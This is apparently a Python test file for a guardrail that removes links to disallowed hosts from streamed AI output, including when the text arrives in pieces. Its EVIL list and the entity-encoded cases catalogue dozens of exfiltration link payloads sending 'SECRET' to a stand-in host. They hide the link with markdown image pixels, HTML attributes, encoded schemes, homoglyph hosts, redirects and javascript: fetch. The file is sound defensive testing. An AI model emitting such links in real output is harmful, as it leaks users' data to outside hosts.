"""S4.25: links that would carry an answer away, in every dress, whole and in pieces."""

from __future__ import annotations

from itertools import pairwise

import pytest
from hypothesis import given
from hypothesis import strategies as st

from penstock.guardrails.links import MARK, Hosts, Links
from penstock.guardrails.text import Verdicts

HOSTS = Hosts(["good.example", "*.trusted.example"])


def whole(text: str) -> str:
    step = Links(HOSTS, Verdicts())
    return step.feed(text) + step.end()


def cut(text: str, places: list[int]) -> str:
    step = Links(HOSTS, Verdicts())
    edges = [0, *sorted(min(place, len(text)) for place in places), len(text)]
    return "".join(step.feed(text[begin:end]) for begin, end in pairwise(edges)) + step.end()


EVIL = [
    "![pixel](https://evil.example/p?q=SECRET)",
    '[click](http://evil.example/SECRET "title")',
    "[click](<https://evil.example/SECRET>)",
    "[1]: https://evil.example/SECRET",
    "[1]: //evil.example/SECRET",
    "[1]:\n<//evil.example/SECRET>",
    "<https://evil.example/SECRET>",
    '<img src="https://evil.example/SECRET">',
    "<img src='//evil.example/SECRET'>",
    "<img src=//evil.example/SECRET>",
    '<a href=" \n\t //evil.example/SECRET">x</a>',
    '<img srcset="a.png 1x, //evil.example/SECRET 2x">',
    '<p style="background:url(//evil.example/SECRET)">',
    '<img src="ht\ntps://evil.example/SECRET">',
    '<img src="https:/\n/evil.example/SECRET">',
    '<img src="https:\t//evil.example/SECRET">',
    '<img src="/\t/evil.example/SECRET">',
    "![x](/\\evil.example/SECRET)",
    "![x](\\\\evil.example/SECRET)",
    "![x](https:/evil.example/SECRET)",
    "![x](https:evil.example/SECRET)",
    "![x](https\\://evil.example/SECRET)",
    "![x](https:\\/\\/evil.example/SECRET)",
    "![x](HTTPS://EVIL.example/SECRET)",
    "https://good.example@evil.example/SECRET",
    "https://good.example\\@evil.example/SECRET",
    "https://good.example.evil.example/SECRET",
    "https://nottrusted.example/SECRET",
    "https://xn--good-example.evil/SECRET",
    "https://g\u043e\u043ed.example/SECRET",
    "https://2130706433/SECRET",
    "https://[2001:db8::1]/SECRET",
    "https://good%2eexample/SECRET",
    "https://good.example:99999999/SECRET",
    "www.evil.example/SECRET",
    "see http://evil.example/SECRET, or not",
    "ftp://good.example/SECRET",
    "https://" + "a" * 400 + "/SECRET",
    "![x](https://good.example/go?to=https://evil.example/SECRET)",
    "(javascript:fetch('x/SECRET'))",
    "<a href='data:text/html,SECRET'>",
]


@pytest.mark.parametrize("text", EVIL)
def test_a_link_to_another_host_goes(text: str) -> None:
    """S4.25: no host that is not allowed is left, and nothing of what the address carried."""
    clean = whole(text)
    assert MARK in clean
    assert "evil.example" not in clean.lower() or "javascript" in text
    assert "SECRET" not in clean or "fetch" in text


@pytest.mark.parametrize(
    "text",
    [
        "![x](&#104;ttps&#58;&#47;&#47;evil.example/S)",
        "![x](https&colon;&sol;&sol;evil.example/S)",
        '<img src="&#x2F;&#x2f;evil.example/S">',
        '<img src="/&Tab;/evil.example">',
    ],
)
def test_references_that_a_renderer_would_decode_are_shown_instead(text: str) -> None:
    clean = whole(text)
    assert "&amp;" in clean
    assert not any(one in clean for one in ("&#", "&colon;", "&sol;", "&Tab;"))


@pytest.mark.parametrize(
    "text",
    [
        "See [the page](https://good.example/a_(b)?c=d#e) and ![i](http://good.example:8080/x.png).",
        "https://a.trusted.example/x. Also https://A.B.Trusted.Example, and so on",
        "[here](#part) [there](/a/b) [mail](mailto:a@b.example) [rel](../x.md)",
        "a // comment\nx = y //2\nprint('a//b') # c:\\\\temp? no: 7//2 == 3",
        "Ratio 3:4, 12:30, http: and https: are schemes; a/b, and/or, &amp; &lt; R&D",
        "if a<b and c>d: <b>bold</b>",
        "data: see the table; file: none",
        "://",
    ],
)
def test_other_text_stays(text: str) -> None:
    assert whole(text) == text


PIECES = [
    "https", ":", "//", "/", "\\", "evil.example", "good.example", "www.", "](", "[1]:", "<img src=", '"', "'", " ", "\n", "\t", "&#4", "7;", "&sol;",
    "x.trusted.example", "/path?q=", "@", ")", ">", ".", "javascript:", "data:", "a", "é", "http:", ",", "=",
]  # fmt: skip


@given(st.lists(st.sampled_from(PIECES), max_size=14).map("".join), st.lists(st.integers(0, 120), max_size=8))
def test_any_cuts_give_what_the_whole_gives(text: str, places: list[int]) -> None:
    """S4.25: links in pieces."""
    assert cut(text, places) == whole(text)


@given(st.sampled_from(EVIL))
def test_one_character_at_a_time(text: str) -> None:
    assert cut(text, list(range(len(text)))) == whole(text)


@given(st.lists(st.sampled_from(PIECES), max_size=14).map("".join))
def test_what_is_clean_stays_clean(text: str) -> None:
    """A second look finds nothing that the first one made."""
    once = whole(text)
    assert whole(once).replace("&amp;", "&") == once.replace("&amp;", "&")


def test_prose_is_hardly_held_back() -> None:
    step = Links(HOSTS, Verdicts())
    said = step.feed("The quick brown fox jumps over the lazy dog ")
    assert said.startswith("The quick brown fox jumps over the lazy dog")
